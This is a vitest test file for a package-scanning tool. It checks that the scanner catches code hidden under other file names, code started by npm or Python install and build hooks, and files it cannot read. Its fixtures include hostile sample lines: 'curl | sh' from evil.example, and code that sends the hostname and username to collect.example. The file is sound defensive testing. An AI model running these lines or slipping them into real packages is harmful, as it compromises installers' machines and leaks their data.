// Code is read under whatever name it lies there, what runs at installation is found however it is started, and what is not read is told.
import { describe, expect, test } from 'vitest'
import { bound } from '../../src/core/model/bounds.ts'
import { verdictOf } from '../../src/core/vet/verdict.ts'
import { type Files, look, rulesIn, whyUnread } from './look.ts'

const HARM = "const r = require('child_process'); r.exec('curl -s https://evil.example/x | sh')"
const PYTHON_HARM = "import os\nos.system('curl -s https://evil.example/x | sh')\n"
const SENDS = "fetch('https://collect.example/?h=' + require('os').hostname() + require('os').userInfo().username)"
const PYTHON_SENDS =
  "import socket, urllib.request\nurllib.request.urlopen('https://collect.example/?h=' + socket.gethostname())\n"

describe('code under another name', () => {
  test.each<[string, Files]>([
    ['required', { 'index.js': "require('./words.dat')", 'words.dat': HARM }],
    ['required without ending', { 'index.js': "require('./lib/words')", 'lib/words': HARM }],
    ['required by a name put together', { 'index.js': "require('./wo' + 'rds.dat')", 'words.dat': HARM }],
    ['required beside the file', { 'lib/a.js': "require(__dirname + '/words.dat')", 'lib/words.dat': HARM }],
    ['imported', { 'index.mjs': "import './types.d.ts'", 'types.d.ts': HARM }],
    [
      'read and evaluated',
      {
        'index.js':
          "const fs = require('fs'), path = require('path'); eval(fs.readFileSync(path.join(__dirname, 'words.dat'), 'utf8'))",
        'words.dat': HARM,
      },
    ],
    ['started', { 'index.js': "require('child_process').spawn('node', ['./words.dat'])", 'words.dat': HARM }],
    ['made a worker', { 'index.js': "new Worker(new URL('./words.dat', import.meta.url))", 'words.dat': HARM }],
    [
      'named by what was named',
      { 'index.js': "require('./one.dat')", 'one.dat': "require('./two.dat')", 'two.dat': HARM },
    ],
    ['its main', { 'package.json': '{ "name": "a", "main": "words" }', words: HARM }],
    ['its program', { 'package.json': '{ "name": "a", "bin": { "a": "./cli.txt" } }', 'cli.txt': HARM }],
    [
      'what it exports',
      { 'package.json': '{ "name": "a", "exports": { ".": { "node": "./x.dat" } } }', 'x.dat': HARM },
    ],
    [
      'what a script starts',
      { 'package.json': '{ "name": "a", "scripts": { "start": "node server" } }', server: HARM },
    ],
    ['read and run in Python', { 'a.py': "exec(open('words.dat').read())", 'words.dat': PYTHON_HARM }],
    [
      'loaded by its place in Python',
      { 'a.py': "import importlib.util as u\nu.spec_from_file_location('x', 'words.dat')", 'words.dat': PYTHON_HARM },
    ],
    ['run whenever Python starts', { 'a.pth': `./elsewhere\nimport os; ${PYTHON_HARM.split('\n')[1]}\n` }],
    ['code that begins like a program', { 'index.js': `MZ=0;${HARM};${' '.repeat(100)}` }],
    ['in a folder .git that comes with a package', { 'index.js': "require('./.git/x.js')", '.git/x.js': HARM }],
  ])('%s', async (_, files) => {
    expect(rulesIn(await look(files))).toContain('code-runs-download')
  })

  test.each<[string, Files]>([
    ['words', { 'index.js': "require('fs').readFileSync('./notes.txt')", 'notes.txt': 'Run: curl x | sh\n' }],
    ['data', { 'index.js': "require('fs').readFileSync('./a.dat')", 'a.dat': '[1, 2, 3]' }],
    ['types', { 'index.d.ts': 'export declare const a: number', 'index.js': 'exports.a = 1' }],
    ['words beside Python', { 'a.py': "open('notes.h').read()", 'notes.h': '#define A (1 + 2)\nint main( { }\n' }],
    ['a page', { 'index.js': "require('fs').readFileSync('page.html')", 'page.html': '<p>{{ a }}</p>' }],
  ])('%s that code names are looked at and no trouble', async (_, files) => {
    const part = await look(files)
    expect(part.report.findings).toEqual([])
    expect(verdictOf([part])).toBe('no-finding')
  })
})

describe('what runs while it is installed', () => {
  const withScripts = (scripts: object, more: Files = {}): Files => ({
    'package.json': JSON.stringify({ name: 'a', scripts }),
    ...more,
  })

  test.each<[string, Files]>([
    ['node setup.js', withScripts({ preinstall: 'node setup.js' }, { 'setup.js': SENDS })],
    ['node setup', withScripts({ install: 'node ./setup && echo ok' }, { 'setup.js': SENDS })],
    ['node lib', withScripts({ postinstall: 'node lib' }, { 'lib/index.js': SENDS })],
    ['node with an option', withScripts({ prepare: 'node --no-warnings setup||true' }, { 'setup.cjs': SENDS })],
    ['a script of its own', withScripts({ postinstall: 'npm run -s go', go: 'node setup' }, { 'setup.js': SENDS })],
    ['code on the line', withScripts({ postinstall: `node -e "require('./setup')"` }, { 'setup.js': SENDS })],
    [
      'what that loads',
      withScripts({ postinstall: 'node setup' }, { 'setup.js': "require('./lib/a')", 'lib/a.js': SENDS }),
    ],
    ['under another name', withScripts({ postinstall: 'node setup.dat' }, { 'setup.dat': SENDS })],
    [
      'what building starts',
      {
        'package.json': '{ "name": "a" }',
        'binding.gyp': `{ "targets": [{ "sources": ["<!@(node find-sources.js)"] }] }`,
        'find-sources.js': SENDS,
      },
    ],
    [
      'an action of building',
      {
        'package.json': '{ "name": "a" }',
        'binding.gyp': `{ 'targets': [{ 'actions': [{ 'action': ['node', 'make'] }] }] }`,
        'make.js': SENDS,
      },
    ],
    ['setup.py alone', { 'setup.py': PYTHON_SENDS }],
    [
      'setup.py, beside a package.json',
      { 'package.json': '{ "name": "a" }', 'PKG-INFO': 'Name: a\n', 'setup.py': PYTHON_SENDS },
    ],
    [
      'a backend in the tree',
      {
        'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "own.build"\nbackend-path = ["tools"]\n',
        'tools/own/build.py': PYTHON_SENDS,
      },
    ],
    [
      'a hook of the build',
      {
        'pyproject.toml': '[build-system]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n',
        'hatch_build.py': PYTHON_SENDS,
      },
    ],
    [
      'package.json beside what says that it is for Python',
      { 'PKG-INFO': 'Name: a\n', ...withScripts({ preinstall: 'node setup.js' }, { 'setup.js': SENDS }) },
    ],
  ])('%s', async (_, files) => {
    expect(rulesIn(await look(files))).toContain('install-sends')
  })

  test('a command of binding.gyp is a command', async () => {
    const gyp = '{ "variables": { "x": "<!(curl -s https://evil.example/x | sh)" } }'
    expect(rulesIn(await look({ 'package.json': '{ "name": "a" }', 'binding.gyp': gyp }))).toContain('install-command')
  })

  test('what nothing starts is not', async () => {
    const part = await look(withScripts({ postinstall: 'node setup' }, { 'setup.js': '1', 'other.js': SENDS }))
    expect(rulesIn(part)).not.toContain('install-sends')
  })
})

describe('what is not read is told', () => {
  const most = bound('vet-file-bytes')
  test.each<[string, Files, string]>([
    ['a manifest that is none', { 'package.json': '{ "scripts": ', 'a.js': '1' }, 'package.json: it is no manifest'],
    ['a manifest that is a list', { 'package.json': '[]', 'a.js': '1' }, 'package.json: it is no manifest'],
    ['a manifest that is too large', { 'package.json': `{}${' '.repeat(most)}`, 'a.js': '1' }, 'package.json: it has'],
    ['a large file without a name', { cli: `#!/usr/bin/env node\n${' '.repeat(most)}`, 'a.js': '1' }, 'cli: it has'],
    [
      'a large file that is loaded',
      { 'words.dat': ' '.repeat(most + 1), 'a.js': "require('./words.dat')" },
      'words.dat',
    ],
    ['a program by the name of code', { 'x.js': '\u007FELF\u0001', 'a.js': '1' }, 'x.js: it is not the code'],
    [
      'a link to a folder that leads out',
      { lib: { link: '/usr/lib' }, 'a.js': "require('./lib/x')" },
      'lib: it is a link',
    ],
    [
      'a link that is named and leads out',
      { cli: { link: '/etc/hostname' }, 'a.js': "require('./cli')" },
      'cli: it is',
    ],
    ['compiled code', { 'hidden.pyc': 'x', 'a.py': 'import hidden' }, 'hidden.pyc: it is compiled'],
    [
      'compiled code that is taken whatever its source is',
      { '__pycache__/a.cpython-312.pyc': `\0\0\0\0\u0001${'\0'.repeat(15)}`, 'a.py': '1' },
      'a.cpython-312.pyc: it is compiled',
    ],
    [
      'an archive that is imported from',
      { 'data.zip': 'PK\u0003\u0004\0\0', 'a.py': "import sys\nsys.path.insert(0, 'data.zip')\n" },
      'data.zip: it is loaded',
    ],
    ['a link that leads out', { 'x.js': { link: '../../elsewhere.js' }, 'a.js': '1' }, 'x.js: it is a link'],
  ])('%s', async (_, files, why) => {
    const part = await look(files)
    expect(whyUnread(part)).toContain(why)
    expect(part.coverage).toEqual([{ what: 'files', seen: 1, of: 2 }])
    expect(verdictOf([part])).toBe('incomplete')
  })

  test('what is code by the name of a link alone is read', async () => {
    const manifest = '{ "name": "a", "scripts": { "postinstall": "node x" } }'
    const files = { 'package.json': manifest, 'words.txt': SENDS, 'x.js': { link: 'words.txt' } }
    expect(rulesIn(await look(files))).toContain('install-sends')
  })

  test.each<[string, Files]>([
    ['what others wrote', { 'vendor/a.js': 'exports.a = 1', 'b.js': 'exports.b = 1', 'c.js': '1' }],
    ['a bundle', { 'dist.js': `exports.a = 1 // ${'x'.repeat(200_000)}`, 'b.js': 'exports.b = 1', 'c.js': '1' }],
  ])('%s is followed alone', async (_, files) => {
    const { report } = await look(files)
    expect(report.notLooked.join()).toContain('to and from 1 file,')
  })
})
